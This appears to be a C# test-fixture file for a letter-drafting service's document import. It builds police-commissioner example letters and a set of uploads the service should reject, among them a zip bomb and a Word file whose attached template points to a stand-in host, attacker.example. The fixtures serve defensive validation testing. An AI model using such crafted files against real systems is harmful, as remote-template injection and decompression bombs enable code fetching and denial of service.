using System.IO.Compression;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using ResponseDrafter.TestSupport;

namespace ResponseDrafter.Api.Tests.Imports;

/// <summary>
/// The example letters (the copies of /work/shared/examples kept beside the Documents tests), the force's briefing note
/// from example 002 rebuilt as a Word document, and files no drafter should be able to upload.
/// </summary>
internal static class ImportFiles
{
    public const string DocxType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

    private static readonly string Examples = RepositoryFiles.Path("tests", "ResponseDrafter.Documents.Tests", "Import", "Examples");

    /// <summary>The Essex PFCC letter, whose Appendix A reproduces recommendations 2, 3, 4 and 6.</summary>
    public static string EssexLetter => File.ReadAllText(Path.Combine(Examples, "004_cdb9d528bd6c8fce.txt"));

    /// <summary>The Suffolk force's briefing note (example 002) as the Word document it was; <paramref name="revise"/> edits the text first.</summary>
    public static byte[] BriefingNote(Func<string, string>? revise = null) => TestSupport.BriefingNote.Document(revise);

    /// <summary>A force document whose headings name the recommendations they answer.</summary>
    public static byte[] NamedAnswers(string two, string three) => new WordFile()
        .Heading(1, "Recommendation 2 – officer training").Paragraph(two)
        .Heading(1, "Recommendation 3 – crime allocation").Paragraph(three)
        .Build();

    public static byte[] Encrypted() => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0, 0, 0, 0, 0, 0, 0];

    public static byte[] Pdf() => Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n");

    /// <summary>A Word document with a macro project added.</summary>
    public static byte[] MacroEnabled() => WithPart(Plain(), "word/vbaProject.bin", Encoding.ASCII.GetBytes("Attribute VB_Name = \"Module1\""));

    /// <summary>A Word document whose body XML is cut off.</summary>
    public static byte[] Malformed() => WithPart(Plain(), "word/document.xml",
        Encoding.UTF8.GetBytes("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p>"));

    /// <summary>A zip whose one part is 8 MiB of zeros: it expands thousands of times.</summary>
    public static byte[] ZipBomb()
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            zip.CreateEntry("[Content_Types].xml").Open().Dispose();
            using var entry = zip.CreateEntry("word/document.xml", CompressionLevel.SmallestSize).Open();
            entry.Write(new byte[8 * 1024 * 1024]);
        }

        return stream.ToArray();
    }

    /// <summary>A Word document attached to a template on a remote server, which Word would fetch on opening.</summary>
    public static byte[] ExternalRelationship()
    {
        using var stream = new MemoryStream();
        stream.Write(Plain());
        using (var document = WordprocessingDocument.Open(stream, isEditable: true))
        {
            var settings = document.MainDocumentPart!.AddNewPart<DocumentSettingsPart>();
            var relationship = settings.AddExternalRelationship(
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("http://attacker.example/template.dotm"));
            settings.Settings = new Settings(new AttachedTemplate { Id = relationship.Id });
        }

        return stream.ToArray();
    }

    /// <summary>Over the 10 MiB upload limit.</summary>
    public static byte[] TooLarge() => new byte[(10 * 1024 * 1024) + 1];

    public static byte[] Plain() => new WordFile().Heading(1, "Response").Paragraph("The force has acted.").Build();

    private static byte[] WithPart(byte[] docx, string name, byte[] content)
    {
        using var stream = new MemoryStream();
        stream.Write(docx);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            zip.GetEntry(name)?.Delete();
            using var entry = zip.CreateEntry(name).Open();
            entry.Write(content);
        }

        return stream.ToArray();
    }
}
